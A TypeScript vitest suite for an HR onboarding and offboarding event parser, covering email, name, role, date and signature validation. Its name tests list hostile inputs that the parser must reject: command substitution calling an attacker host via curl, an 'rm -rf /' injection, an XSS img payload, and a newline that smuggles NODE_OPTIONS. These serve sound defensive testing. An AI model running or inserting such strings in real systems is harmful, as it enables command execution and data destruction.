import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { describe, expect, it } from 'vitest'
import { loadAccess } from '../src/config.js'
import { checkEmail } from '../src/email.js'
import { UserError } from '../src/errors.js'
import {
  assertNotStale,
  type EventOverrides,
  isNewer,
  type ParseEventOptions,
  parseEvent,
  readRunnerEvent,
} from '../src/event.js'
import { checkName } from '../src/name.js'
import { SANDBOX_EVENT_KEY as KEY, signDispatch } from '../src/testing/events.js'
import { EMPLOYEE_ID_RULE } from '../src/types.js'

const repo = (p: string) => fileURLToPath(new URL(`../../../${p}`, import.meta.url))
const access = loadAccess({
  rolesFile: repo('.github/access/roles.yaml'),
  guardrailsFile: repo('.github/access/guardrails.yaml'),
})
const sample = (name: string) => JSON.parse(readFileSync(repo(`test/fixtures/events/${name}.json`), 'utf8'))

/** parseEvent with the test key accepted; a dispatch event is signed with it first (unless already signed). */
const parse = (
  file: unknown,
  eventName: string,
  a: typeof access,
  overrides?: EventOverrides,
  opts: ParseEventOptions = {},
) => parseEvent(signDispatch(file, KEY), eventName, a, overrides, { eventKeys: [KEY], ...opts })

const PAYLOAD = {
  employee_id: 'E1042',
  event_id: 'hr-0001',
  occurred_at: '2026-11-20T09:15:00Z',
  name: 'Jamie Doe',
  email: 'jamie.doe@acme.com',
  role: 'backend-engineer',
}
const dispatch = (payload: Record<string, unknown>, action: unknown = 'onboard') => ({
  action,
  client_payload: payload,
})

function problems(file: unknown, eventName = 'repository_dispatch', overrides?: EventOverrides): UserError {
  try {
    parse(file, eventName, access, overrides)
  } catch (e) {
    expect(e).toBeInstanceOf(UserError)
    return e as UserError
  }
  throw new Error('expected the event to be rejected')
}

/** Rejected, naming `field` with a rule matching `rule`, and the raw value appears nowhere in the message. */
function rejects(field: string, value: string, rule?: RegExp, action = 'onboard') {
  const e = problems(dispatch({ ...PAYLOAD, [field]: value }, action))
  const p = e.problems.find((x) => x.field === `client_payload.${field}`)
  expect(p, `${field} should be rejected`).toBeDefined()
  if (rule) expect(p?.rule).toMatch(rule)
  if (value.trim().length > 2) expect(e.message).not.toContain(value.trim())
  if (value !== '') expect(JSON.stringify(e.problems)).not.toContain(JSON.stringify(value).slice(1, -1))
  return p!
}

describe('sample events', () => {
  it('onboard parses into a LifecycleEvent', () => {
    expect(parse(sample('onboard'), 'repository_dispatch', access)).toEqual({
      type: 'onboard',
      eventId: 'hr-7f3c2a91-0001',
      occurredAt: '2026-11-20T09:15:00Z',
      employeeId: 'E1042',
      name: 'Jamie Doe',
      email: 'jamie.doe@acme.com',
      managerEmail: 'riley.manager@acme.com',
      role: 'backend-engineer',
      startDate: '2026-11-02',
      githubUsername: 'jamie-doe-dev',
      source: 'repository_dispatch',
      dryRun: false,
    })
  })

  it('role-change and offboard need no personal data', () => {
    expect(parse(sample('role-change'), 'repository_dispatch', access)).toMatchObject({
      type: 'role-change',
      role: 'data-analyst',
      employeeId: 'E1042',
    })
    const off = parse(sample('offboard'), 'repository_dispatch', access)
    expect(off).toMatchObject({ type: 'offboard', employeeId: 'E1042' })
    expect(off.name).toBeUndefined()
    expect(off.email).toBeUndefined()
  })
})

describe('payload shape', () => {
  const required = {
    onboard: ['employee_id', 'event_id', 'occurred_at', 'name', 'email', 'role'],
    'role-change': ['employee_id', 'event_id', 'occurred_at', 'role'],
    offboard: ['employee_id', 'event_id', 'occurred_at'],
  }
  for (const [type, fields] of Object.entries(required)) {
    for (const field of fields) {
      it(`${type} without ${field} is rejected`, () => {
        const payload: Record<string, unknown> = { ...PAYLOAD }
        delete payload[field]
        const e = problems(dispatch(payload, type))
        expect(e.problems).toContainEqual({ field: `client_payload.${field}`, rule: `required for ${type}` })
      })
    }
  }

  const fields = [...Object.keys(PAYLOAD), 'manager_email', 'start_date', 'github_username']
  for (const field of fields) {
    for (const wrong of [42, true, ['x'], { x: 'y' }]) {
      it(`${field} as ${JSON.stringify(wrong)} is not a string`, () => {
        const e = problems(dispatch({ ...PAYLOAD, [field]: wrong }))
        expect(e.problems).toContainEqual({ field: `client_payload.${field}`, rule: 'must be a string' })
      })
    }
  }

  it('unknown keys are rejected, by name only when the name is harmless', () => {
    const e = problems(dispatch({ ...PAYLOAD, admin: 'true', 'jamie.doe@acme.com': 'x' }))
    expect(e.problems).toContainEqual({ field: 'client_payload.admin', rule: 'unknown key' })
    expect(e.problems).toContainEqual({ field: 'client_payload', rule: 'has an unknown key' })
    expect(e.message).not.toContain('jamie')
  })

  it('a __proto__ key from JSON is an unknown key, never a source of fields', () => {
    const payload = { ...PAYLOAD } as Record<string, unknown>
    delete payload.role
    const file = JSON.parse(
      `{"action":"onboard","client_payload":{"__proto__":{"role":"backend-engineer"},${JSON.stringify(payload).slice(1)}}`,
    )
    const e = problems(file)
    expect(e.problems).toContainEqual({ field: 'client_payload.__proto__', rule: 'unknown key' })
    expect(e.problems).toContainEqual({ field: 'client_payload.role', rule: 'required for onboard' })
  })

  it('more than 10 top-level keys is rejected', () => {
    const extra = Object.fromEntries(Array.from({ length: 5 }, (_, i) => [`k${i}`, 'x']))
    const e = problems(dispatch({ ...PAYLOAD, ...extra }))
    expect(e.problems).toContainEqual({ field: 'client_payload', rule: 'has more than 10 keys' })
  })

  it('a payload of 64 KB or more is rejected', () => {
    const e = problems(dispatch({ ...PAYLOAD, name: 'a'.repeat(70_000) }))
    expect(e.problems).toContainEqual({ field: 'client_payload', rule: 'larger than 64 KB' })
  })

  it('event type, payload and the event itself are checked', () => {
    expect(problems(dispatch(PAYLOAD, 'promote')).problems).toContainEqual({
      field: 'action',
      rule: 'must be one of onboard, role-change, offboard',
    })
    expect(problems({ client_payload: PAYLOAD }).problems).toContainEqual({ field: 'action', rule: 'required' })
    expect(problems({ action: 'onboard' }).problems).toContainEqual({ field: 'client_payload', rule: 'required' })
    expect(problems({ action: 'onboard', client_payload: [] }).problems).toContainEqual({
      field: 'client_payload',
      rule: 'must be an object',
    })
    expect(problems('nope').problems).toEqual([{ field: 'event', rule: 'must be a JSON object' }])
    expect(problems(dispatch(PAYLOAD), 'push').problems[0]?.field).toBe('event')
  })

  it('collects every problem, not just the first', () => {
    const e = problems(
      dispatch({
        employee_id: 'E 1',
        event_id: 'x',
        occurred_at: 'yesterday',
        email: 'a@evil.io',
        name: 'J\u202Eohn',
        role: 'Admin',
      }),
    )
    expect(e.problems.map((p) => p.field).sort()).toEqual([
      'client_payload.email',
      'client_payload.employee_id',
      'client_payload.name',
      'client_payload.occurred_at',
      'client_payload.role',
    ])
  })

  it('over-long strings are refused before any normalising', () => {
    rejects('employee_id', 'E'.repeat(65), /longer than 64/)
    rejects('name', 'a'.repeat(2000), /longer than 1024/)
  })
})

describe('email', () => {
  it('rejects a look-alike domain suffix', () => {
    expect(rejects('email', 'a@acme.com.evil.io').rule).toBe('domain not allowlisted')
    expect(rejects('manager_email', 'a@acme.com.evil.io').rule).toBe('domain not allowlisted')
    expect(rejects('email', 'a@evilacme.com').rule).toBe('domain not allowlisted')
  })

  it('normalises " A@ACME.com " and accepts it', () => {
    const ev = parse(dispatch({ ...PAYLOAD, email: ' A@ACME.com ' }), 'repository_dispatch', access)
    expect(ev.email).toBe('A@acme.com')
  })

  it('rejects a fullwidth or small @ and other non-ASCII', () => {
    expect(rejects('email', 'a\uFF20acme.com').rule).toMatch(/looks like '@'/)
    expect(rejects('email', 'a\uFE6Bacme.com').rule).toMatch(/looks like '@'/)
    expect(rejects('email', 'j\u00E9r\u00F4me@acme.com').rule).toMatch(/ASCII/)
    expect(rejects('email', 'a@\u0430cme.com').rule).toMatch(/ASCII/) // Cyrillic а
    expect(rejects('email', 'a@b@acme.com').rule).toMatch(/exactly one '@'/)
    expect(rejects('email', 'nobody').rule).toMatch(/exactly one '@'/)
    expect(rejects('email', 'a b@acme.com').rule).toMatch(/ASCII without spaces/)
    expect(rejects('email', 'a\n@acme.com').rule).toMatch(/control/)
  })

  it('limits the local part to 64 octets and the address to 254', () => {
    expect(checkEmail(`${'a'.repeat(64)}@acme.com`, ['acme.com']).ok).toBe(true)
    expect(rejects('email', `${'a'.repeat(65)}@acme.com`).rule).toBe('local part longer than 64 octets')
    const domain = `${'d'.repeat(60)}.${'e'.repeat(60)}.${'f'.repeat(60)}.${'g'.repeat(60)}.com` // 247 octets
    const long = `abcdefg@${domain}` // 255 octets
    expect(long.length).toBe(255)
    expect(checkEmail(long, [domain])).toEqual({ ok: false, rule: 'longer than 254 octets' })
    expect(checkEmail(long.slice(1), [domain]).ok).toBe(true)
  })

  it('re-validates after NFC: a decomposed accent is still non-ASCII', () => {
    expect(checkEmail('jose\u0301@acme.com', ['acme.com'])).toEqual({
      ok: false,
      rule: 'must be ASCII without spaces or control characters',
    })
  })

  it('rejects syntax the domain or local part does not allow', () => {
    for (const bad of ['.a@acme.com', 'a..b@acme.com', '@acme.com', 'a@', 'a@acme', 'a@-acme.com', '"a"@acme.com'])
      expect(checkEmail(bad, ['acme.com']).ok, bad).toBe(false)
    expect(checkEmail("o'brien+it@acme.com", ['acme.com']).ok).toBe(true)
  })
})

describe('name', () => {
  it('accepts real names in many scripts', () => {
    for (const ok of [
      'Jamie Doe',
      "Siobhán O'Brien-Ó Ceallaigh",
      'José María',
      'Дмитрий Петров',
      '山田 太郎',
      '山田\u3000花子',
      'やまだ たろう',
      '김민준',
      'Nguyễn Văn A',
      'Zoë (Zo) Smith',
      'محمد علي',
    ])
      expect(checkName(ok), ok).toMatchObject({ ok: true })
  })

  it('rejects bidi controls', () => {
    expect(rejects('name', 'Jamie \u202Eeod').rule).toBe('contains a bidirectional control character')
    expect(checkName('a\u2066b').ok).toBe(false)
    expect(checkName('a\u200Fb').ok).toBe(false)
  })

  it('rejects a Cyrillic look-alike inside a Latin word', () => {
    expect(rejects('name', '\u0410lice Smith').rule).toBe('mixes scripts within a word (look-alike characters)')
    expect(rejects('name', 'Jamie D\u043Ee').rule).toMatch(/mixes scripts/)
  })

  it('rejects a newline carrying an environment variable', () => {
    const e = problems(dispatch({ ...PAYLOAD, name: 'Jamie\nNODE_OPTIONS=--require ./evil.js' }))
    expect(e.problems).toContainEqual({
      field: 'client_payload.name',
      rule: 'contains a control character (such as a newline)',
    })
    expect(e.message).not.toContain('NODE_OPTIONS')
    expect(e.message).not.toContain('evil')
  })

  it('rejects shell and markup punctuation, which no real name needs', () => {
    // Nothing ever shells a name, but refusing these keeps logs, summaries and emails free of them.
    rejects('name', '$(curl http://attacker)', /not allowed in a name/)
    rejects('name', '"; rm -rf / #', /not allowed in a name/)
    rejects('name', '<img src=x onerror=alert(1)>', /not allowed in a name/)
    rejects('name', '`id`', /not allowed in a name/)
  })

  it('rejects invisible characters, empty names and names over 128 code points', () => {
    expect(checkName('Ja\u200Bmie').ok).toBe(false)
    expect(checkName('   ').ok).toBe(false)
    expect(checkName('---').ok).toBe(false)
    expect(checkName('\u5C71'.repeat(128)).ok).toBe(true)
    expect(checkName('\u5C71'.repeat(129))).toEqual({ ok: false, rule: 'longer than 128 characters' })
    expect(checkName(' Jamie Doe ')).toEqual({ ok: true, value: 'Jamie Doe' })
  })
})

describe('role', () => {
  for (const bad of [
    'admin ',
    'Admin',
    '__proto__',
    'constructor',
    'toString',
    'Backend-Engineer',
    ' backend-engineer',
  ])
    it(`${JSON.stringify(bad)} is not a role`, () => {
      const p = rejects('role', bad, /^not a role in roles.yaml$/)
      expect(p.field).toBe('client_payload.role')
      expect(problems(dispatch({ ...PAYLOAD, role: bad }, 'role-change')).problems).toContainEqual({
        field: 'client_payload.role',
        rule: 'not a role in roles.yaml',
      })
    })

  it('offboard accepts a role that is no longer in the map, but not a malformed one', () => {
    const off = dispatch(
      { employee_id: 'E1042', event_id: 'x1', occurred_at: '2026-01-01T00:00:00Z', role: 'retired-role' },
      'offboard',
    )
    expect(parse(off, 'repository_dispatch', access).role).toBe('retired-role')
    const bad = dispatch({ ...off.client_payload, role: '__proto__' }, 'offboard')
    expect(problems(bad).problems).toEqual([{ field: 'client_payload.role', rule: 'not a role in roles.yaml' }])
  })
})

describe('identifiers and dates', () => {
  it('employee_id', () => {
    for (const bad of ['', 'E 1042', 'E1042/..', 'é1', 'E1042\n']) rejects('employee_id', bad)
    expect(parse(dispatch({ ...PAYLOAD, employee_id: 'a.B_9-z' }), 'repository_dispatch', access).employeeId).toBe(
      'a.B_9-z',
    )
  })

  it('occurred_at is a strict date-time with an offset', () => {
    for (const ok of ['2026-11-20T09:15:00Z', '2026-11-20T09:15:00.123456+05:30', '2024-02-29T23:59:59-08:00'])
      expect(parse(dispatch({ ...PAYLOAD, occurred_at: ok }), 'repository_dispatch', access).occurredAt).toBe(ok)
    for (const bad of [
      '2026-11-20',
      '2026-11-20T09:15:00',
      '2026-11-20 09:15:00Z',
      '2026-02-30T00:00:00Z',
      '2026-11-20T24:00:00Z',
      '1763630100',
      '2026-11-20T09:15Z',
      '2026-11-20t09:15:00z',
    ])
      rejects('occurred_at', bad, /ISO 8601/)
  })

  it('start_date is an ISO date', () => {
    rejects('start_date', '2026-02-30', /ISO 8601 date/)
    rejects('start_date', '01/12/2026', /ISO 8601 date/)
    expect(parse(dispatch({ ...PAYLOAD, start_date: '2026-12-01' }), 'repository_dispatch', access).startDate).toBe(
      '2026-12-01',
    )
  })

  it('github_username follows GitHub login syntax', () => {
    for (const bad of ['-jdoe', 'jdoe-', 'j--doe', 'j_doe', 'a'.repeat(40)])
      rejects('github_username', bad, /GitHub login|longer than 39/)
  })

  it('event_id', () => {
    rejects('event_id', 'id with spaces')
  })
})

describe('workflow_dispatch and overrides', () => {
  const now = () => new Date('2027-01-01T00:00:00Z')

  it('reads only employee-id, event-type and dry-run, and defaults to a dry run', () => {
    const ev = parse(
      { inputs: { 'employee-id': 'E1042', 'event-type': 'onboard', email: 'not-parsed' } },
      'workflow_dispatch',
      access,
      {},
      { now, runId: '123' },
    )
    expect(ev).toEqual({
      type: 'onboard',
      eventId: 'rerun-123',
      occurredAt: '2027-01-01T00:00:00.000Z',
      employeeId: 'E1042',
      source: 'workflow_dispatch',
      dryRun: true,
    })
    expect(
      parse(
        { inputs: { 'employee-id': 'E1', 'event-type': 'offboard', 'dry-run': 'false' } },
        'workflow_dispatch',
        access,
      ).dryRun,
    ).toBe(false)
  })

  it('offboard-now is an offboard of its own, one per run, flagged as asked for by a person', () => {
    const ev = parseEvent(
      { inputs: { 'employee-id': 'E1042', 'event-type': 'offboard-now', 'dry-run': 'false' } },
      'workflow_dispatch',
      access,
      {},
      { now, runId: '77' },
    )
    expect(ev).toEqual({
      type: 'offboard',
      eventId: 'offboard-now-77',
      occurredAt: '2027-01-01T00:00:00.000Z',
      employeeId: 'E1042',
      source: 'workflow_dispatch',
      dryRun: false,
      offboardNow: true,
    })
    // An HR event can never be one.
    expect(() => parseEvent(sample('offboard'), 'repository_dispatch', access, { eventType: 'offboard-now' })).toThrow(
      /input\.event-type: must be the HR event's own \(signed\) type/,
    )
  })

  it('checks the inputs it reads', () => {
    const e = problems(
      { inputs: { 'employee-id': 'E 1', 'event-type': 'hire', 'dry-run': 'maybe' } },
      'workflow_dispatch',
    )
    expect(e.problems).toEqual([
      { field: 'inputs.event-type', rule: 'must be one of onboard, role-change, offboard, offboard-now' },
      { field: 'inputs.dry-run', rule: "must be 'true' or 'false'" },
      { field: 'inputs.employee-id', rule: 'must be 1-64 of A-Z a-z 0-9 . _ - with at least one letter or digit' },
    ])
    expect(problems({ inputs: {} }, 'workflow_dispatch').problems).toContainEqual({
      field: 'inputs.employee-id',
      rule: 'required',
    })
  })

  it('explicit inputs override the event and are validated the same way', () => {
    const ev = parse(sample('onboard'), 'repository_dispatch', access, {
      email: ' Sam.Roe@ACME.COM',
      name: 'Sam Roe',
      role: 'designer',
      employeeId: '',
    })
    expect(ev).toMatchObject({ employeeId: 'E1042', email: 'Sam.Roe@acme.com', name: 'Sam Roe', role: 'designer' })
    const e = problems(sample('onboard'), 'repository_dispatch', { email: 'x@evil.io', role: 'Admin', name: 'A\u202E' })
    expect(e.problems).toEqual([
      { field: 'input.email', rule: 'domain not allowlisted' },
      { field: 'input.name', rule: 'contains a bidirectional control character' },
      { field: 'input.role', rule: 'not a role in roles.yaml' },
    ])
  })

  it('overrides can supply a missing required field and name the person outside a dispatch', () => {
    const payload: Record<string, unknown> = { ...PAYLOAD }
    delete payload.role
    expect(parse(dispatch(payload), 'repository_dispatch', access, { role: 'data-analyst' }).role).toBe('data-analyst')
    const ev = parse({}, 'schedule', access, { employeeId: 'E7', eventType: 'role-change', role: 'designer' }, { now })
    expect(ev).toMatchObject({
      employeeId: 'E7',
      type: 'role-change',
      role: 'designer',
      dryRun: true,
      source: 'workflow_dispatch',
    })
  })
})

describe('ordering', () => {
  it('compares instants, not strings', () => {
    expect(isNewer('2026-11-20T10:00:00+01:00', '2026-11-20T08:59:59Z')).toBe(true)
    expect(isNewer('2026-11-20T10:00:00+01:00', '2026-11-20T09:00:00Z')).toBe(false)
    expect(isNewer('2026-11-20T09:00:00.000000002Z', '2026-11-20T09:00:00.000000001Z')).toBe(true)
  })

  it('refuses an event older than the last one applied for the person', () => {
    const ev = parse(sample('onboard'), 'repository_dispatch', access)
    expect(() => assertNotStale(ev, '2026-11-21T00:00:00Z')).toThrow(
      'client_payload.occurred_at: older than the last event applied for this person',
    )
    expect(() => assertNotStale(ev, ev.occurredAt)).not.toThrow()
    expect(() => assertNotStale(ev, '2026-11-19T00:00:00Z')).not.toThrow()
    expect(() => assertNotStale(ev)).not.toThrow()
  })
})

describe('readRunnerEvent', () => {
  const write = (event: unknown) => {
    const dir = mkdtempSync(join(tmpdir(), 'onramp-event-'))
    const path = join(dir, 'event.json')
    writeFileSync(path, JSON.stringify(signDispatch(event, KEY)))
    return path
  }

  it('inputs naming the person and event type are a rerun, whatever event triggered the run', () => {
    // Under workflow_call the event file is the caller's: its payload must not leak into the rerun.
    const env = { GITHUB_EVENT_PATH: write(sample('onboard')), GITHUB_EVENT_NAME: 'repository_dispatch' }
    const e = readRunnerEvent(access, { employeeId: 'E2001', eventType: 'offboard', dryRun: false }, env)
    expect(e).toMatchObject({ source: 'workflow_dispatch', employeeId: 'E2001', type: 'offboard', dryRun: false })
    expect(e.email).toBeUndefined()
    expect(e.name).toBeUndefined()
  })

  it('on a rerun the dry-run input decides both ways; on an HR event it can only force a dry run', () => {
    const rerun = { GITHUB_EVENT_PATH: write({ inputs: {} }), GITHUB_EVENT_NAME: 'workflow_call' }
    const ids = { employeeId: 'E2001', eventType: 'onboard' }
    expect(readRunnerEvent(access, { ...ids, dryRun: true }, rerun).dryRun).toBe(true)
    expect(readRunnerEvent(access, { ...ids, dryRun: false }, rerun).dryRun).toBe(false)
    const hr = { GITHUB_EVENT_PATH: write(sample('onboard')), GITHUB_EVENT_NAME: 'repository_dispatch' }
    expect(readRunnerEvent(access, { dryRun: false, eventKey: KEY }, hr).dryRun).toBe(false)
    expect(readRunnerEvent(access, { dryRun: true, eventKey: KEY }, hr).dryRun).toBe(true)
  })

  it('an unreadable event file is a user error naming GITHUB_EVENT_PATH', () => {
    const env = { GITHUB_EVENT_PATH: join(tmpdir(), 'no-such-dir', 'event.json'), GITHUB_EVENT_NAME: 'push' }
    expect(() => readRunnerEvent(access, {}, env)).toThrow(/GITHUB_EVENT_PATH/)
  })
})

describe('names: scripts, joiners, invisible and look-alike letters', () => {
  const accepted: [string, string][] = [
    ['Persian with U+200C between letters', 'می\u200Cخواهم'],
    ['Devanagari with U+200C after a virama', 'क्\u200Cष'],
    ['Malayalam with U+200D', 'ന്\u200Dമ'],
    ['Hawaiian ʻokina U+02BB', 'Keʻala Hawaiʻi'],
    ['U+2019 apostrophe', 'Siobhán O\u2019Brien'],
    ['Azerbaijani schwa', 'Şəhla Əliyeva'],
    ['a one-word name that is a word of the plan', 'Dev'],
    ['another one', 'Acme'],
    ['an id-like one-word name', 'E1042'],
  ]
  for (const [label, name] of accepted)
    it(`accepts ${label}`, () => expect(checkName(name), name).toMatchObject({ ok: true }))

  const refused: [string, string, RegExp][] = [
    ['U+200C between Latin letters', 'Jamie\u200CDoe', /joiner/],
    ['U+200C at the start', '\u200Cمی', /joiner/],
    ['U+200D at the end', 'می\u200D', /joiner/],
    ['the Hangul filler U+3164 alone', '\u3164', /invisible or filler/],
    ['a name padded with U+3164', 'Jamie\u3164', /invisible or filler/],
    ['Hangul choseong and jungseong fillers', '\u115F\u1160', /invisible or filler/],
    ['the combining grapheme joiner U+034F', 'Ja\u034Fmie', /invisible or filler/],
    ['a variation selector', 'Jamie\uFE0F', /invisible or filler/],
    ['an ideographic variation selector', '\u5C71\u{E0100}', /invisible or filler/],
    ['tag characters', 'Jamie\u{E0041}\u{E007F}', /invisible or filler/],
    ['only a modifier letter', '\u02BB', /no visible letter/],
    ['only an apostrophe', '\u2019', /no visible letter/],
    ['only digits', '1042', /no visible letter/],
    ['mathematical bold letters', '𝐉𝐚𝐦𝐢𝐞', /look-alike/],
    ['mathematical script mixed in', 'J𝒶mie', /look-alike/],
    ['small capitals', 'ᴊᴀᴍɪᴇ', /look-alike/],
    ['a small capital inside a Latin name', 'Jamɪe', /look-alike/],
    ['full-width Latin', 'Ｊａｍｉｅ', /look-alike/],
    ['superscript letters', 'Jamieᵃ', /look-alike/],
  ]
  for (const [label, name, rule] of refused)
    it(`refuses ${label}, naming the rule only`, () => {
      const r = checkName(name)
      expect(r.ok).toBe(false)
      if (!r.ok) {
        expect(r.rule).toMatch(rule)
        expect(r.rule).not.toContain(name)
      }
    })
})

describe('employee ids and emails', () => {
  for (const id of ['.', '..', '...', '-', '_', '._-'])
    it(`refuses the employee id ${JSON.stringify(id)} (no letter or digit)`, () => {
      const e = problems(dispatch({ ...PAYLOAD, employee_id: id }))
      expect(e.problems).toContainEqual({ field: 'client_payload.employee_id', rule: EMPLOYEE_ID_RULE })
    })
  for (const id of ['E1042', 'a.b', '.e1', '1'])
    it(`accepts the employee id ${id}`, () => {
      expect(parse(dispatch({ ...PAYLOAD, employee_id: id }), 'repository_dispatch', access).employeeId).toBe(id)
    })
  for (const email of ['jamie%doe@acme.com', 'acme.com!jamie@acme.com', 'jamie!@acme.com', '%@acme.com'])
    it(`refuses ${email}: % and ! route mail elsewhere`, () => {
      expect(checkEmail(email, ['acme.com'])).toEqual({
        ok: false,
        rule: "local part must not contain '%' or '!' (mail routing characters)",
      })
    })
})

describe('payload version 2 and signatures', () => {
  const V2 = {
    version: 2,
    event_id: 'hr-0001',
    occurred_at: '2026-11-20T09:15:00Z',
    person: { employee_id: 'E1042', name: 'Jamie Doe', email: 'jamie.doe@acme.com', role: 'backend-engineer' },
  }
  const now = new Date('2026-11-20T10:00:00Z')

  it('reads the person from `person`, and names its fields there', () => {
    expect(parse(dispatch(V2), 'repository_dispatch', access)).toMatchObject({
      employeeId: 'E1042',
      name: 'Jamie Doe',
      email: 'jamie.doe@acme.com',
      eventId: 'hr-0001',
    })
    const e = problems(dispatch({ ...V2, person: { ...V2.person, email: 'x@evil.io', shoe_size: '44' } }))
    expect(e.problems).toContainEqual({ field: 'client_payload.person.email', rule: 'domain not allowlisted' })
    expect(e.problems).toContainEqual({ field: 'client_payload.person.shoe_size', rule: 'unknown key' })
    const flatInV2 = problems(dispatch({ ...V2, name: 'Jamie Doe' }))
    expect(flatInV2.problems).toContainEqual({ field: 'client_payload.name', rule: 'unknown key' })
    expect(problems(dispatch({ ...V2, version: 3 })).problems).toContainEqual({
      field: 'client_payload.version',
      rule: 'must be 2 (or absent for the flat version 1 payload)',
    })
    expect(problems(dispatch({ ...V2, person: 'E1042' })).problems).toContainEqual({
      field: 'client_payload.person',
      rule: 'must be an object',
    })
  })

  const refusal = (file: unknown, opts: ParseEventOptions) => {
    try {
      parseEvent(file, 'repository_dispatch', access, {}, { eventKeys: [KEY], now: () => now, ...opts })
    } catch (e) {
      expect(e).toBeInstanceOf(UserError)
      expect((e as Error).message).not.toContain(KEY)
      return (e as UserError).problems
    }
    throw new Error('expected a refusal')
  }

  it('refuses unsigned, wrongly signed, retyped, expired and future-dated events, naming the rule only', () => {
    const event = dispatch(V2, 'offboard')
    expect(refusal(event, {})).toEqual([
      { field: 'client_payload.signature', rule: expect.stringMatching(/^required/) },
    ])
    const wrongKey = signDispatch(event, 'another-key-00000000000000000000', now)
    expect(refusal(wrongKey, {})[0]?.rule).toMatch(/does not match/)
    const retyped = { ...signDispatch(dispatch(V2, 'onboard'), KEY, now), action: 'offboard' }
    expect(refusal(retyped, {})[0]?.rule).toMatch(/does not match/)
    const old = signDispatch(event, KEY, new Date(now.getTime() - 24 * 3600_000 - 1000))
    expect(refusal(old, {})[0]?.rule).toMatch(/older than guardrails events.max-age/)
    const ahead = signDispatch(event, KEY, new Date(now.getTime() + 301_000))
    expect(refusal(ahead, {})[0]?.rule).toMatch(/ahead of this runner's clock/)
    expect(refusal(signDispatch(event, KEY, now), { eventKeys: [] })).toEqual([
      { field: 'with.event-key', rule: expect.stringContaining('ONRAMP_EVENT_KEY') },
    ])
    expect(refusal(signDispatch(event, KEY, now), { eventKeys: ['', ''] })[0]?.field).toBe('with.event-key')
  })

  it('a signature does not make a future occurred_at acceptable; up to 5 minutes of skew is', () => {
    const future = dispatch({ ...V2, occurred_at: '2026-11-20T10:05:01Z' })
    expect(refusal(signDispatch(future, KEY, now), {})).toEqual([
      { field: 'client_payload.occurred_at', rule: "is more than 5 minutes ahead of this runner's clock" },
    ])
    const skewed = signDispatch(dispatch({ ...V2, occurred_at: '2026-11-20T11:05:00+01:00' }), KEY, now)
    expect(parseEvent(skewed, 'repository_dispatch', access, {}, { eventKeys: [KEY], now: () => now }).type).toBe(
      'onboard',
    )
  })

  it('an input event-type must be the signed one', () => {
    const e = problems(dispatch(V2, 'onboard'), 'repository_dispatch', { eventType: 'offboard' })
    expect(e.problems).toContainEqual({ field: 'input.event-type', rule: "must be the HR event's own (signed) type" })
  })

  it('a workflow_dispatch rerun needs no signature', () => {
    const ev = parseEvent({ inputs: { 'employee-id': 'E1042', 'event-type': 'offboard' } }, 'workflow_dispatch', access)
    expect(ev).toMatchObject({ source: 'workflow_dispatch', employeeId: 'E1042', type: 'offboard' })
  })

  it('refuses deep nesting and huge events before anything recurses', () => {
    let deep: unknown = 'x'
    for (let i = 0; i < 5000; i++) deep = [deep]
    expect(refusal({ action: 'onboard', client_payload: { ...V2, person: deep } }, {})).toEqual([
      { field: 'event', rule: 'is nested more than 32 levels deep' },
    ])
    const wide = { action: 'onboard', client_payload: V2, extra: Array.from({ length: 30_000 }, () => 1) }
    expect(refusal(wide, {})).toEqual([{ field: 'event', rule: 'has more than 20000 values' }])
  })

  it('the runner event file is bounded before it is read', () => {
    const dir = mkdtempSync(join(tmpdir(), 'onramp-event-'))
    const path = join(dir, 'event.json')
    writeFileSync(path, `{"action":"onboard","pad":"${'x'.repeat(1_100_000)}"}`)
    const env = { GITHUB_EVENT_PATH: path, GITHUB_EVENT_NAME: 'repository_dispatch' }
    expect(() => readRunnerEvent(access, { eventKey: KEY }, env)).toThrow(
      'GITHUB_EVENT_PATH: event file larger than 1 MB',
    )
  })
})
